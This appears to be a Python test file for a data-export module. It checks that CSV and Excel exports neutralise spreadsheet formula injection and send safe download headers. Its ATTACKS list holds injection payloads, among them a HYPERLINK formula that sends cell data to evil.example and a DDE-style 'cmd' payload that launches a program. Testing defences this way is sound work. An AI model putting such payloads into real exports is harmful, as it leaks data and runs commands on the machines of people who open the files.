"""The export writer: user text is text in .xlsx, and neutralised in .csv; numbers stay numbers."""

import csv
import io
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from integritas.common import exports

ATTACKS = ['=HYPERLINK("http://evil.example/?d="&A1,"klik")', "=1+1", "@SUM(A1:A2)", "+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1"]  # fmt: skip


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12", "-12"),
        ("+3,75", "+3,75"),
        ("Layanan KTP", "Layanan KTP"),
        ("a=b", "a=b"),
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        (None, ""),
    ],
)
def test_csv_values_that_would_run_as_formulas_get_an_apostrophe(value, written):
    assert exports.csv_value(value) == written


@given(st.text())
def test_no_csv_text_value_starts_like_a_formula_unless_it_is_a_plain_number(text):
    value = exports.csv_value(text)
    if value.startswith(exports.FORMULA_PREFIXES):
        assert exports._PLAIN_NUMBER.match(value)
    assert value in (text, "'" + text)


@given(st.lists(st.text(), max_size=5))
def test_a_csv_line_reads_back_as_the_neutralised_values(values):
    line = "".join(exports.csv_lines([values], bom=False))
    assert next(csv.reader(io.StringIO(line, newline=""))) == [exports.csv_value(v) for v in values]


def _cells(data: bytes):
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


@pytest.mark.parametrize("write_only", [False, True])
def test_every_string_is_a_string_cell_and_numbers_stay_numbers(write_only):
    book = exports.new_workbook(write_only=write_only)
    sheet = book.create_sheet("Data") if write_only else book.active
    exports.append(sheet, [*ATTACKS, 3, Decimal("2.5"), None])
    if not write_only:
        exports.put(sheet, 2, 1, '=HYPERLINK("x")')
        exports.put(sheet, 2, 2, 42)
    cells = [c for c in _cells(exports.workbook_bytes(book)) if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert [c.value for c in cells if c.data_type == "s"][: len(ATTACKS)] == ATTACKS
    assert [c.value for c in cells if c.data_type == "n"] == [3, 2.5, *([] if write_only else [42])]


def test_control_characters_do_not_break_an_export():
    data = exports.xlsx([("Data", [["catatan\x00\x07 rusak"]])])
    assert _cells(data)[0].value == "catatan\ufffd\ufffd rusak"


def test_attachment_headers_forbid_sniffing():
    from django.http import HttpResponse

    response = exports.attachment(HttpResponse(b""), "a.csv")
    assert response["Content-Disposition"] == 'attachment; filename="a.csv"'
    assert response["X-Content-Type-Options"] == "nosniff"
